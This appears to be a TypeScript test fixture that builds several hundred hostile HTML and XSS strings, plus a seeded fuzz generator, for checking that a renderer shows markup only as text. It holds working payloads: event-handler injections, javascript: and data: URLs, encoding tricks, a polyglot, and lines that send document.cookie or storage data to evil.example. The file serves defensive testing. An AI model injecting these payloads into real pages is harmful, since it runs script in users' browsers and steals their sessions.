/** For tests: texts that want to be markup. Whoever shows one has to show it as text: no element, no handler, no request. */

/** What each of them would like to run, and where it would like to send what it finds. */
const RUN = 'alert(document.domain)';
const AWAY = 'https://evil.example';

/** Elements that run something by themselves, up to their handler's name. */
const HANDLERS =
  `img src=x onerror|img src=${AWAY}/i.png onload|image href=x onerror|svg onload|svg/onload|body onload|body onpageshow|video src=x onerror
  |video><source onerror|audio src=x onerror|iframe onload|iframe src=x onload|input autofocus onfocus|select autofocus onfocus|textarea autofocus onfocus
  |button autofocus onfocus|a href=# autofocus tabindex=0 onfocus|details open ontoggle|marquee onstart|object data=x onerror|embed src=x onload
  |link rel=stylesheet href=x onerror|style onload|script src=x onerror|math onmouseover|svg><animate attributeName=x dur=1s onbegin
  |svg><set attributeName=x onend|form><button formaction=javascript:${RUN} onclick|div style=animation:x onanimationstart
  |div style=transition:all+1s ontransitionend|x contenteditable onblur|dialog open onclose|meter onmouseover|keygen autofocus onfocus
  |frameset onload|isindex type=image src=1 onerror|input type=image src=x onerror|bgsound src=x onload|track src=x onload|menuitem onclick`
    .split('|')
    .map((element) => element.trim());

const quoted: readonly ((code: string) => string)[] = [
  (code) => `"${code}"`,
  (code) => `'${code}'`,
  (code) => `${code}>`,
  (code) => `\`${code}\``,
  (code) => `&#34;${[...code].map((letter) => `&#${letter.codePointAt(0)};`).join('')}&#34;`,
];

/** Words that a browser might take for an address of code. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `${AWAY}/x`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example/x`,
  `blob:${AWAY}/1`,
  `filesystem:${AWAY}/1`,
];
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">Good night</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `[Good night](${address})`,
  (address) => address,
];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
  `<script type=module>import "${AWAY}/x.js"</script>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `x" style="background:url(${AWAY}/b)" y="`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<link rel=prefetch href=${AWAY}/p>`,
  `<link rel=manifest href=${AWAY}/m>`,
  `<style>@import "${AWAY}/x.css";</style>`,
  `<style>body{background:url(${AWAY}/b)}</style>`,
  `<p style="background:url(${AWAY}/b)">Good night</p>`,
  `<p style="position:fixed;inset:0">Good night</p>`,
  `<img srcset="${AWAY}/s 1x">`,
  `<picture><source srcset="${AWAY}/s"><img></picture>`,
  `<video poster="${AWAY}/v.png"></video>`,
  `<svg><use href="${AWAY}/u.svg#x"></use></svg>`,
  `<svg><image href="${AWAY}/i.svg"></image></svg>`,
  `<svg><script href=${AWAY}/x.js></script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<table background=${AWAY}/t><td>x</td></table>`,
  `<input type=hidden name=__proto__ value=x>`,
  `<form id=createElement><input name=body></form>`,
  `<a id=location href=x>`,
  `<img name=cookie>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${AWAY}">]>&e;`,
  `<p title="<!--"><img src=x onerror=${RUN}>-->`,
  `<plaintext>Good night`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&#00000060;script&#00000062;${RUN}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<\u0000script>${RUN}</script>`,
  `<img\u00a0src=x\u00a0onerror=${RUN}>`,
  `<img\u000csrc=x\u000conerror=${RUN}>`,
  `<\u200bscript>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `![Good night](${AWAY}/i.png)`,
  `<${AWAY}>`,
  `<img src=x onerror=import('${AWAY}/x.js')>`,
  `<img src=x onerror=navigator.sendBeacon('${AWAY}',document.cookie)>`,
  `<img src=x onerror=fetch('${AWAY}/'+localStorage.length)>`,
  `<portal src=${AWAY}></portal>`,
  `<fencedframe></fencedframe>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

/** A few hundred that are known, or made of what is known. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...new Set([
    ...HANDLERS.flatMap((element) => quoted.map((quote) => `<${element}=${quote(RUN)}>`)),
    ...ADDRESSES.flatMap((address) => CARRIERS.map((carrier) => carrier(address))),
    ...WHOLE,
  ]),
];

const PIECES =
  `<|</|>|/>|<!|<!--|-->|--!>|<![CDATA[|]]>|<?|?>|"|'|\`|=|&|;|&lt;|&gt;|&quot;|&#60;|&#x3e;|&#0;|&amp;lt;| |/|\\|script|style|svg|img|iframe|math|p
  |div|a|title|template|noscript|textarea| onerror=| onload=| onfocus=| src=| href=| srcdoc=| style=|javascript:|data:text/html,|${AWAY}/x|//evil.example
  |${RUN}|alert\`1\`|expression(|url(|@import|<p>|</p>|<br>|<b>|</script>|</style>|Good night|Mira|otter|é|🦦|\u0000|\u200d|\u202e|\u2028|\ufeff|\t`
    .split('|')
    .map((piece) => piece.replace(/^\n\s*/, ''));

/** As many as are wanted of what nobody has thought of: the same at every run. */
export function generatedMarkup(count: number): string[] {
  let state = 20_261_121;
  const below = (limit: number): number => {
    // Marsaglia's xorshift: no statistics hang on it.
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % limit;
  };
  return Array.from({ length: count }, () => Array.from({ length: 3 + below(14) }, () => PIECES[below(PIECES.length)]).join(''));
}
